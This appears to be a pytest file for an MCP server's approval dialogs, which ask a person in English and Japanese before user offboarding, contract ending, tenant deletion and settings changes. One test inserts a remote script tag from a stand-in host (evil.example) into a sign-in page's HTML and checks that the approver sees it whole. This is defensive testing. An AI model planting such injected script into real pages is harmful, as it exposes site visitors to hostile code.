"""What is asked before a job that is about one person, one tenant, or settings; in both languages."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from saasus_mcp.common.language import Language
from saasus_mcp.permissions.question.content import Question
from saasus_mcp.permissions.question.dialog import render_dialog
from saasus_mcp.permissions.question.formatting import Reader
from saasus_mcp.permissions.question.layout import hidden_labels
from tests.support.job_data import AOZORA, USER, add_invitation
from tests.support.job_server import JobServer, start_job_server

COMPANY = "株式会社青空商事"


async def asked(on: JobServer, name: str, args: dict[str, Any]) -> Question:
    """Return the question that a person is asked outside the client."""
    answer = await on.call(name, args)
    assert "saasus-mcp approve" in answer.text, answer.text
    [pending] = [each for each in on.pipeline.store.list_approvals(on.pipeline.clock()) if each.status == "pending"]
    return Question.from_json(pending.preview)


def said(question: Question, language: Language) -> list[str]:
    lines = render_dialog(question, Reader.of(language)).splitlines()
    assert len(lines) <= 12
    return lines


@pytest.mark.slow
async def test_off_boarding_names_the_person_what_is_lost_and_which_step_waits(tmp_path: Path) -> None:
    async with start_job_server(tmp_path) as on:
        add_invitation(on.sandbox, USER)
        question = await asked(on, "job_offboard_user", {"email": USER.upper()})
    en, ja = said(question, "en"), said(question, "ja")
    assert en[0] == f"[SANDBOX] Remove {USER} from 2 tenants and delete the account"
    assert ja[0] == f"[SANDBOX] {USER} を2テナントから外し、アカウントを削除します"
    assert COMPANY in en[1]
    assert "本番環境: 管理者 (admin)" in en[1]
    assert en[2].startswith("⚠ Deleting the account cannot be undone")
    assert "アカウントの削除は元に戻せません" in ja[2]
    assert "(2) delete the account, after an approval of its own" in "\n".join(en)
    assert ja[-1] == f"実行するには「{USER}」と入力してください"


@pytest.mark.parametrize("tenant", [AOZORA, COMPANY])
async def test_the_end_of_a_contract_is_asked_about_with_the_plan_and_the_date_of_the_reader(
    tmp_path: Path, tenant: str
) -> None:
    async with start_job_server(tmp_path) as on:
        question = await asked(on, "job_offboard_tenant", {"tenant_id": tenant})
    en, ja = said(question, "en"), said(question, "ja")
    assert (en[0], ja[0]) == (
        f"[SANDBOX] End the contract of “{COMPANY}”",
        f"[SANDBOX] 「{COMPANY}」の契約を終了します",
    )
    assert "“ビジネスプラン”, ends " in en[1]
    assert "UTC" in en[1]
    assert "JST" in ja[1]
    assert "nothing is refunded" in "\n".join(en)


async def test_deleting_a_tenant_says_who_loses_access_and_what_stays(tmp_path: Path) -> None:
    async with start_job_server(tmp_path) as on:
        question = await asked(on, "job_offboard_tenant", {"tenant_id": AOZORA, "delete": "at_once"})
    en = said(question, "en")
    assert en[0] == f"[SANDBOX] End the contract of “{COMPANY}” and delete the tenant"
    assert "⚠ Deleting the tenant cannot be undone" in "\n".join(en[:4])
    assert "People who lose access: 20 people" in en
    assert "Left in no tenant; accounts stay" in [label.en for label in hidden_labels(question)], (
        "15 people are too many for a line"
    )


async def test_a_script_that_a_document_brings_into_a_page_is_shown(tmp_path: Path) -> None:
    script = "<script src=https://evil.example/x.js></script>"
    async with start_job_server(tmp_path) as on:
        told = await on.call_json("job_export_settings", {"kinds": ["customize_pages"]})
        document = json.loads(json.dumps(told["document"]))
        page = document["settings"]["customize_pages"]["sign_in_page"]
        page["html_contents"] = "x" * 500 + page["html_contents"] + script + "y" * 500
        args = {"document": document, "kinds": ["customize_pages"], "update": True}
        question = await asked(on, "job_apply_settings", args)
    assert question.typed is not None
    assert (question.typed.en, question.typed.ja) == ("1 setting", "設定1件")
    assert said(question, "en")[0] == "[SANDBOX] Change 1 setting by a document"
    whole = " ".join(detail.value for detail in question.details)
    assert script in whole, "the details hold it whole"
    assert any("HTML" in label.en for label in hidden_labels(question)), "what is cut is announced"
